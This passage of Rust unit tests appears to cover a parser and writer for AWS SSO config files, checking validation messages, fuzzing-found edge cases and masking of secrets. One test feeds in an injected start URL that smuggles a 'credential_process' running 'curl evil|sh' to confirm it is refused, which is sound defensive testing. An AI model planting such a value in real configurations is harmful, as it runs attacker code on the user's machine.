            p[0].starts_with("[profile bad] `sso_region`: `eu-west-1` disagrees with `us-east-1`"),
            "{p:?}"
        );

        let p = problems(&format!("{GOOD}\n[profile bad]\nsso_session = my-sso\nsso_start_url = https://other.awsapps.com/start\n"));
        assert!(
            p[0].starts_with(
                "[profile bad] `sso_start_url`: `https://other.awsapps.com/start` disagrees"
            ),
            "{p:?}"
        );

        let p = problems(&format!("{GOOD}\n[profile bad]\nsso_session = my-sso\nsso_account_id = 1234\nsso_role_name = R\n"));
        assert!(
            p[0].starts_with(
                "[profile bad] `sso_account_id`: `1234` is not a 12-digit AWS account id"
            ),
            "{p:?}"
        );

        let p = problems(&format!(
            "{GOOD}\n[profile bad]\nsso_session = my-sso\nsso_account_id = 123456789012\n"
        ));
        assert!(
            p[0].starts_with(
                "[profile bad] `sso_role_name`: missing while `sso_account_id` is set"
            ),
            "{p:?}"
        );

        let p = problems("[profile old]\nsso_start_url = https://x.awsapps.com/start\n");
        assert!(
            p[0].starts_with("[profile old] `sso_region`: missing"),
            "{p:?}"
        );
    }

    #[test]
    fn a_broken_profile_never_hides_the_good_ones() {
        let text = format!("{GOOD}\n[profile bad]\nsso_session = my-sso\nsso_account_id = abc\nsso_role_name = R\n");
        let c = parse(&text);
        assert_eq!(c.problems.len(), 1);
        assert!(c.profile("dev").is_some());
        assert!(c.profile("legacy").is_some());
        assert!(c.profile("bad").is_none());
    }

    #[test]
    fn an_unreadable_line_is_reported_and_skipped() {
        let text = GOOD.replace(
            "region = us-west-2\n",
            "region = us-west-2\nthis line is broken\n",
        );
        let c = parse(&text);
        assert_eq!(c.problems.len(), 1, "{:?}", c.problems);
        assert_eq!(
            c.problems[0].message,
            "line 17 of the config file cannot be read (neither `key = value`, a `[section]` nor a comment): `this line is broken`; fix or remove that line (ssotray skipped it)"
        );
        assert!(c.session("my-sso").is_some());
        assert!(c.profile("dev").is_some());
        assert!(c.profile("legacy").is_some());
    }

    #[test]
    fn keys_under_a_broken_header_do_not_leak_into_the_previous_section() {
        let text = GOOD.replace("[profile legacy]", "[profile legacy");
        let c = parse(&text);
        assert_eq!(c.problems.len(), 1, "{:?}", c.problems);
        assert!(c.problems[0]
            .message
            .contains("(a section header without its closing `]`): `[profile legacy`"));
        // `dev` keeps its own settings; the legacy keys went nowhere.
        assert_eq!(
            c.profile("dev").unwrap().account_id.as_deref(),
            Some("111111111111")
        );
        assert!(c.profile("legacy").is_none());
    }

    #[test]
    fn indented_lines_continue_the_value_above_as_aws_tools_read_them() {
        // A nested block is fine and its keys do not leak into the profile.
        let c = parse(GOOD);
        assert!(c.problems.is_empty());
        // An accidental indent is reported, and the key it holds is not taken (botocore does not either).
        let c = parse("[sso-session s]\nsso_start_url = https://x.awsapps.com/start\n   sso_region = us-east-1\n");
        let p: Vec<String> = c.problems.iter().map(|p| p.to_string()).collect();
        assert_eq!(p[0], "line 3 is indented, so AWS tools read it as part of the value on the line above: `sso_region = …`; remove the indentation");
        assert!(
            p[1].starts_with("[sso-session s] `sso_region`: missing"),
            "{p:?}"
        );
    }

    #[test]
    fn a_new_session_is_appended_and_nothing_else_changes() {
        let out =
            append_sso_session(GOOD, "work", "https://d-9.awsapps.com/start", "eu-west-1").unwrap();
        assert!(out.starts_with(GOOD));
        assert_eq!(&out[GOOD.len()..], "\n[sso-session work]\nsso_start_url = https://d-9.awsapps.com/start\nsso_region = eu-west-1\nsso_registration_scopes = sso:account:access\n");
        assert!(parse(&out).session("work").is_some());
        assert!(
            append_sso_session(GOOD, "my-sso", "https://x/start", "us-east-1")
                .unwrap_err()
                .contains("already exists")
        );
        assert!(append_sso_session(GOOD, "w", "http://x/start", "us-east-1")
            .unwrap_err()
            .contains("must use https"));
        assert!(append_sso_session("", "two words", "https://x/start", "us-east-1").is_err());
        assert_eq!(append_sso_session("", "a", "https://x/start", "us-east-1").unwrap(), "[sso-session a]\nsso_start_url = https://x/start\nsso_region = us-east-1\nsso_registration_scopes = sso:account:access\n");
    }

    #[test]
    fn nothing_an_ini_line_cannot_hold_is_written() {
        // The start URL parser would drop these characters and accept the URL.
        let injected =
            "https://d-1.awsapps.com/start\n[profile x]\ncredential_process = sh -c 'curl evil|sh'";
        let err = append_sso_session(GOOD, "work", injected, "eu-west-1").unwrap_err();
        assert!(
            err.starts_with("the start URL \"https://d-1.awsapps.com/start\\n[profile x]"),
            "{err}"
        );
        assert!(
            err.contains("contains a line break, tab or other control character"),
            "{err}"
        );
        // (Spaces and line breaks around a pasted value are trimmed; inside it they are refused.)
        for url in [
            "https://d-1.awsapps.com/st\rart",
            "https://d-1.awsapps\t.com/start",
            "https://d-1.awsapps.com/st art",
            "https://d-1.awsapps.com/\0",
        ] {
            assert!(
                append_sso_session(GOOD, "work", url, "eu-west-1").is_err(),
                "{url:?}"
            );
        }
        for name in [
            "wo\rrk",
            "wo\trk",
            "[work",
            "wo]rk",
            "two words",
            "",
            "wo\nrk",
        ] {
            assert!(
                append_sso_session(GOOD, name, "https://d-1.awsapps.com/start", "eu-west-1")
                    .is_err(),
                "{name:?}"
            );
        }
        assert!(append_sso_session(
            GOOD,
            "work",
            "https://d-1.awsapps.com/start",
            "eu-west-1\n[x]"
        )
        .is_err());
        assert_eq!(ini_problem("x", "ok value", false), None);
        assert!(ini_problem("x", "a]b", true)
            .unwrap()
            .contains("contains `]`"));
        assert!(ini_problem("x", "a]b", false).is_none());
        assert!(ini_problem("x", " a", false)
            .unwrap()
            .contains("starts or ends with a space"));
        // Found by fuzzing: backslashes are read differently by the INI reader.
        for url in [
            "https://d-1.awsapps.com/start\\",
            "https://\\\\(x.awsapps.com/start",
        ] {
            let err = append_sso_session(GOOD, "work", url, "eu-west-1").unwrap_err();
            assert!(err.contains("contains `\\`"), "{err}");
        }
    }

    #[test]
    fn a_section_appended_to_a_windows_file_uses_its_line_ends() {
        let text = "[default]\r\nregion = eu-west-1\r\n";
        let out =
            append_sso_session(text, "w", "https://d-1.awsapps.com/start", "eu-west-1").unwrap();
        assert!(out.starts_with(text));
        assert_eq!(&out[text.len()..], "\r\n[sso-session w]\r\nsso_start_url = https://d-1.awsapps.com/start\r\nsso_region = eu-west-1\r\nsso_registration_scopes = sso:account:access\r\n");
        assert!(parse(&out).session("w").is_some());
    }

    #[test]
    fn backslashes_are_read_as_they_are_and_hide_nothing() {
        // Found by fuzzing: a backslash in a header or at the end of a value hid what followed.
        let text = "[profile win]\nca_bundle = C:\\certs\\\ncredential_process = C:\\bin\\x.exe\n[\\]\n\n[sso-session s]\nsso_start_url = https://d-1.awsapps.com/start\nsso_region = us-east-1\n";
        let c = parse(text);
        assert!(c.session("s").is_some(), "{:?}", c.problems);
        assert!(c.problems.is_empty(), "{:?}", c.problems);
        // The stand-in itself, in a file, stays itself.
        for value in ["a\u{e000}b", "\u{e000}\\\u{e000}\u{e000}\\"] {
            assert_eq!(restore(&hide_backslashes(value)), value);
        }
        let c = parse("[profile p]\nsso_session = s\u{e000}\\x\n");
        assert_eq!(
            c.problems[0].message,
            "no [sso-session s\u{e000}\\x] section exists; add one or correct the name"
        );
    }

    #[test]
    fn odd_whitespace_hides_no_later_section() {
        // Found by fuzzing: form feeds, vertical tabs and no-break spaces around lines.
        for ws in ["\u{c}", "\u{b}", "\u{a0}", "\u{c}\u{c}\r"] {
            let text = format!("{ws}\n[sso-session s]{ws}\n{ws}sso_start_url = https://d-1.awsapps.com/start\nsso_region = us-east-1{ws}\n# c{ws}\n");
            let c = parse(&text);
            assert_eq!(
                c.session("s").map(|s| s.region.as_str()),
                Some("us-east-1"),
                "{ws:?}: {:?}",
                c.problems
            );
        }
    }

    #[test]
    fn text_after_a_section_header_is_ignored_as_botocore_ignores_it() {
        let c = parse("[sso-session s] # work\nsso_start_url = https://d-1.awsapps.com/start\nsso_region = us-east-1\n");
        assert!(c.problems.is_empty(), "{:?}", c.problems);
        assert!(c.session("s").is_some());
    }

    #[test]
    fn a_bracket_inside_a_section_name_hides_no_later_section() {
        // Found by fuzzing: `[profile dev]x]` made the INI reader lose every section after it.
        let c = parse("[profile dev]x]\nsso_session = s\n\n[sso-session s]\nsso_start_url = https://d-1.awsapps.com/start\nsso_region = us-east-1\n");
        assert!(c.session("s").is_some(), "{:?}", c.problems);
        assert_eq!(c.problems.len(), 1);
        assert!(
            c.problems[0]
                .message
                .contains("a section header with a bracket inside its name"),
            "{:?}",
            c.problems
        );
    }

    #[test]
    fn a_lone_carriage_return_ends_a_line_as_it_does_for_aws_tools() {
        // Found by fuzzing: a lone CR hid the next section from the INI parser.
        let c = parse("[default]\rregion = x\r\n\n[sso-session s]\nsso_start_url = https://d-1.awsapps.com/start\nsso_region = us-east-1\n");
        assert!(c.problems.is_empty(), "{:?}", c.problems);
        assert!(c.session("s").is_some());
        let c = parse("x=\r s\r\n\n[sso-session s]\nsso_start_url = https://d-1.awsapps.com/start\nsso_region = us-east-1\n");
        assert!(c.session("s").is_some(), "{:?}", c.problems);
    }

    #[test]
    fn quoted_lines_never_show_values() {
        assert_eq!(
            quote_safely("aws_secret_access_key = wJalrXUtnFEMI"),
            "aws_secret_access_key = …"
        );
        assert_eq!(
            quote_safely("AKIAIOSFODNN7EXAMPLEwJalrXUtnFEMIK7MDENG"),
            "AKIAIOSFODNN7EXAMPLEwJal…"
        );
        assert_eq!(quote_safely("[profile x"), "[profile x");
    }

    #[test]
    fn a_broken_session_is_named_by_the_profiles_using_it() {
        let p = problems("[sso-session s]\nsso_region = us-east-1\n[profile p]\nsso_session = s\n");
        assert_eq!(p.len(), 2);
        assert!(p[1].contains("sso-session `s` is broken"), "{p:?}");
    }
}
